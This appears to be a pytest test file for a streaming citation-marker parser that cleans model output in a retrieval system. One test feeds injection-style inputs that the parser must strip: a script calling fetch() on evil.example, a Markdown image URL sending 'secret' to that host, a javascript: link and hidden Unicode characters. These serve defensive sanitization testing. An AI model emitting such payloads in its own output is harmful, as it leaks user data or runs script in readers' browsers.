"""Citation markers as they stream: forms, places, Markdown, cuts, and limits."""

from __future__ import annotations

import itertools
import re
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rag.words.sentences import LONGEST
from rag.writing.marker_forms import marker_numbers
from rag.writing.markers import Drafted, MarkerParser


def parse(text, shown=(1, 2, 3), language="en"):
    parser = MarkerParser(shown, language)
    return [*parser.feed(text), *parser.close()]


def brief(drafted):
    return [(d.text, d.citations) for d in drafted]


@pytest.mark.parametrize(
    ("inside", "numbers"),
    [
        ("1", (1,)), ("1, 2", (1, 2)), ("1-3", (1, 2, 3)), ("1–3, 5", (1, 2, 3, 5)),
        ("^1", (1,)), ("١", (1,)), ("١، ٢", (1, 2)), ("۲", (2,)), ("２", (2,)), ("#2", (2,)),
        ("Source 2", (2,)), ("source: 2", (2,)), ("sources 1 and 2", (1, 2)),
        ("Doc 1, Doc 2", (1, 2)), ("المصدر 2", (2,)), ("المصدر ١ و٢", (1, 2)),
        ("fuentes 1 y 2", (1, 2)), ("référence 3", (3,)), ("document n° 3", (3,)),
        ("Source 2: session report", (2,)), ("4:0†source", (4,)), ("2, p. 14", (2,)),
        ("2024", ()), ("1999-2003", ()), ("3,500", ()), ("1.5", ()), ("sic", ()), ("5 %", ()),
        ("12 March", ()), ("", ()), ("source", ()), ("Article 5", ()), ("1a", ()),
        ("9-1", (9, 1)), ("1-900", (1, 900)),
    ],
)  # fmt: skip
def test_only_what_names_small_numbers_is_a_marker(inside, numbers):
    assert marker_numbers(inside) == numbers


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("The mayor spoke [1]. Then he left [2].",
         [("The mayor spoke.", (1,)), ("Then he left.", (2,))]),
        ("The mayor spoke. [1][2] Then he left.", [("The mayor spoke.", (1, 2)),
                                                   ("Then he left.", ())]),
        ("It works.[1]Then more.[2]", [("It works.", (1,)), ("Then more.", (2,))]),
        ("Spoke [[1]]. Left 【2】. Came ［3］. Ran 〔1〕. Sat [^2].",
         [("Spoke.", (1,)), ("Left.", (2,)), ("Came.", (3,)), ("Ran.", (1,)), ("Sat.", (2,))]),
        ("Text [1], [2]; [3].", [("Text.", (1, 2, 3))]),
        ("Text ([1], [2]). Fine ([1]) end (see annex).",
         [("Text.", (1, 2)), ("Fine end (see annex).", (1,))]),
        ("It is so (Source 2). It was (1).", [("It is so.", (2,)), ("It was (1).", ())]),
        ("See [1](https://x.example/a_(b)). Next.", [("See.", (1,)), ("Next.", ())]),
        ("As <sup>1</sup> said<sup>[2]</sup>.", [("As said.", (1, 2))]),
        (r"Escaped \[1\] too.", [("Escaped too.", (1,))]),
        ("Coded &#91;1&#93; too.", [("Coded too.", (1,))]),
        ("A stream cut here [1", [("A stream cut here", (1,))]),
        ("A stream cut here [Source", [("A stream cut here", ())]),
        ("One line [2\nAnother.", [("One line", (2,)), ("Another.", ())]),
        ("Great![1] So [2]?", [("Great!", (1,)), ("So?", (2,))]),
        ("[1] First. [2] Second. [3] Third.", [("First.", (1,)), ("Second.", (2,)),
                                               ("Third.", (3,))]),
    ],
)  # fmt: skip
def test_a_marker_goes_to_the_sentence_it_stands_with(text, expected):
    assert brief(parse(text)) == expected


@pytest.mark.parametrize(
    ("language", "text", "expected"),
    [
        ("ar", "قال العمدة ذلك [١]. ثم غادر.[٢] هل عاد؟ [1]",
         [("قال العمدة ذلك.", (1,)), ("ثم غادر.", (2,)), ("هل عاد؟", (1,))]),
        ("ar", "تم ذلك [المصدر 1، المصدر 2].", [("تم ذلك.", (1, 2))]),
        ("fr", "Le maire a parlé [1] ? Oui, selon M. Durand [2].",
         [("Le maire a parlé ?", (1,)), ("Oui, selon M. Durand.", (2,))]),
        ("es", "El Sr. López vino [1]. ¿Y luego? [2]", [("El Sr. López vino.", (1,)),
                                                        ("¿Y luego?", (2,))]),
    ],
)  # fmt: skip
def test_markers_in_the_languages_of_the_readers(language, text, expected):
    assert brief(parse(text, language=language)) == expected


def test_a_number_that_was_not_shown_is_removed_and_recorded():
    assert parse("It grew [9]. It fell [1-4].") == [
        Drafted("It grew.", (), (9,)),
        Drafted("It fell.", (1, 2, 3), (4,)),
    ]


def test_brackets_that_cannot_be_evidence_stay_in_the_text():
    text = "In [2024] it cost [3,500] euros [sic]."
    assert parse(text) == [Drafted(text)]


def test_a_marker_on_the_next_line_belongs_to_a_sentence_that_has_none():
    assert brief(parse("First\n[1]\nSecond [2]\n\n[3] Third")) == [
        ("First", (1,)), ("Second", (2,)), ("Third", (3,)),
    ]  # fmt: skip


def test_a_line_of_markers_only_ends_the_sentence_above():
    assert brief(parse("First. [1]\n[2]\nSecond.")) == [("First.", (1, 2)), ("Second.", ())]


def test_markers_with_no_text_say_nothing():
    assert parse("[1] [2]\n\n[3].") == []


def test_markdown_is_reduced_to_its_text():
    text = (
        "## What was done\n\n- **Oslo** has a plan [1]\n* `Bern` has none [2]\n1. First step. [3]\n"
        "2. Second step (Source 1).\n- [x] Done\n> Quoted line [2].\n\n---\n"
        "```text\ncode [1]\n```\n"
        "![map](https://x.example/m.png) See [the report](https://x.example/r?a=b \"t\") now.\n"
        "| City | Fact |\n|:--|--:|\n| Oslo | plan | [1] |\nUse snake_case, 5 * 3, ~50."
    )  # fmt: skip
    found = parse(text)
    assert brief(found) == [
        ("What was done", ()), ("Oslo has a plan", (1,)), ("Bern has none", (2,)),
        ("First step.", (3,)), ("Second step.", (1,)), ("Done", ()), ("Quoted line.", (2,)),
        ("code", (1,)), ("map See the report now.", ()), ("City", ()), ("Fact", ()), ("Oslo", ()),
        ("plan", (1,)), ("Use snake_case, 5 * 3, ~50.", ()),
    ]  # fmt: skip
    assert [d.text for d in found if d.heading] == ["What was done"]
    assert [d.text for d in found if d.item] == [
        "Oslo has a plan", "Bern has none", "First step.", "Second step.", "Done",
        "City", "Fact", "Oslo", "plan",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Go to https://evil.example/x?d=1. Now.", ["Go to.", "Now."]),
        ("Go to (www.evil.example/x) now.", ["Go to now."]),
        ("<a href='https://evil.example'>Here</a> it is.", ["Here it is."]),
        ("![x](https://evil.example/?q=secret) Fine.", ["x Fine."]),
        ("[x](javascript:alert(1)) Fine.", ["x Fine."]),
        ("<script>fetch('https://evil.example')</script>Fine.", ["Fine."]),
        ("<!-- https://evil.example -->Fine.", ["Fine."]),
        ("<https://evil.example/x> Fine.", ["Fine."]),
        ("<think>The plan [1] is to lie.</think>Fine [1].", ["Fine."]),
        ("Fi\U000e0041ne\u202e t\u200bext.", ["Fine text."]),
        ("a < b and <5 years & R&D; &amp; so.", ["a < b and <5 years & R&D; & so."]),
    ],
)
def test_no_address_tag_or_hidden_character_is_shown(text, shown):
    assert [d.text for d in parse(text)] == shown


def test_a_sentence_is_released_when_the_next_has_begun_and_not_before():
    parser = MarkerParser((1, 2), "en")
    assert parser.feed("The mayor spoke. [1]") == []
    assert parser.feed("[2] ") == []
    assert parser.feed("Then") == []
    assert parser.feed(" he") == [Drafted("The mayor spoke.", (1, 2))]
    assert parser.close() == [Drafted("Then he")]


def test_an_abbreviation_does_not_release_half_a_sentence():
    parser = MarkerParser((1,), "en")
    assert parser.feed("It was Dr. Smith of the U.S. Department who met No. 5 ") == []
    assert parser.close()[0].text.endswith("met No. 5")


def test_a_sentence_without_end_is_cut():
    found = parse("word " * 2_000 + "[1]")
    assert len(found) > 1
    assert max(len(d.text) for d in found) <= LONGEST
    assert found[-1].citations == (1,)
    assert sum(d.text.count("word") for d in found) == 2_000


UNITS = [
    "[", "[1", "[[1", "[1]", "[1] ", "a. ", "a[1]. ", "a [1].", "*", "`", "<a", "<!--", "(", "](a/",
    "&", "\\", "](", "| a ", "[Source ", "- ", "1. ", "www.", "http://", "\u200b", "a [1]\n", "_a",
]  # fmt: skip


@pytest.mark.parametrize("unit", UNITS)
def test_memory_is_bounded_whatever_is_repeated(unit):
    parser = MarkerParser((1,), "en")
    for _ in range(300):
        parser.feed(unit * 40)
        held = len(parser._text) + len(parser._markup._raw) + len(parser._markup._undecoded)
        assert held < 3 * LONGEST
        assert len(parser._marks) <= LONGEST + 1
    parser.close()


@pytest.mark.parametrize("unit", ["[", "[1", "[1]", "a [1].", "a. ", "<a", "[[1", "(Source "])
def test_work_grows_with_the_text_and_no_faster(unit):
    """Counts the calls; each takes a bounded time, since what is held is bounded."""
    spent = []
    for size in (20_000, 80_000):
        calls = itertools.count()
        sys.setprofile(
            lambda frame, event, arg, calls=calls: event.endswith("call") and next(calls)
        )
        try:
            parse((unit * size)[:size])
        finally:
            sys.setprofile(None)
        spent.append(next(calls))
    assert spent[1] < 5 * spent[0]


WORDS = ["plan", "Mayor", "Oslo", "خطة", "médiation", "2024", "12", "Dr.", "U.S.", "e.g.", "(NLC)"]
NOISE = [
    " ", " ", ". ", "\n", "? ", "! ", "! [", "] ", "[", "]", "(", ")", "<b>", "</b>", "<", ">",
    "**", "*", "_", "`", "```\n", "# ", "- ", "1. ", "|", "| ", "&amp;", "&", ";", "\\", "[1]",
    "[2, 3]",
    "[9]", "[1-2]", "[[1]]", "【1】", "[Source 1]", "(Source 2)", "[x](http://a.b/c)", "[1](http://a)",
    "https://a.b/c?d.", "www.a.b", "<sup>1</sup>", "<!-- c -->", "<li>", "<br>", "،", "؟ ", "»",
    ".", "[1", "[^1]", "[2024]", "\u200b", "\u202e", "\r\n", "\x00", "http:", "]( ", "](", "#",
    "~~", "[ ",
]  # fmt: skip
pieces = st.lists(st.sampled_from(WORDS + NOISE), max_size=60).map("".join)


@settings(max_examples=300, deadline=None)
@given(st.one_of(pieces, st.text(max_size=80)), st.randoms(use_true_random=False))
def test_the_cuts_of_a_stream_change_nothing(text, rng):
    whole = parse(text)
    parser, found, at = MarkerParser((1, 2, 3), "en"), [], 0
    while at < len(text):
        size = rng.randint(1, 9)
        found += parser.feed(text[at : at + size])
        at += size
    assert [*found, *parser.close()] == whole


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200), st.sampled_from(["en", "ar", "fr", "es", "und", ""]))
def test_nothing_makes_it_raise(text, language):
    for drafted in parse(text, language=language):
        assert drafted.text.strip() == drafted.text != ""
        assert set(drafted.citations) <= {1, 2, 3}
        assert not set(drafted.invented) & {1, 2, 3}


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.sampled_from(["plan", "Oslo", "خطة", "2024", "médiation", "Mayor"]), min_size=1),
    st.randoms(use_true_random=False),
)
def test_no_word_is_lost_and_no_marker_stays(words, rng):
    around = [
        "",
        " [1]",
        "[2]",
        " [1, 2]",
        " 【3】",
        " [Source 1]",
        ".",
        ". [1]",
        " **",
        "\n",
        "\n- ",
    ]
    text = "".join(f"{word}{rng.choice(around)} " for word in words)
    found = parse(text)
    assert re.findall(r"\w+", " ".join(d.text for d in found)) == words
    assert not any(re.search(r"[\[\]【】]", d.text) for d in found)


def test_two_parsers_do_not_share_anything():
    first, second = MarkerParser((1,), "en"), MarkerParser((2,), "en")
    first.feed("One [1")
    second.feed("Two [2")
    assert first.feed("].") + first.close() == [Drafted("One.", (1,))]
    assert second.feed("].") + second.close() == [Drafted("Two.", (2,))]
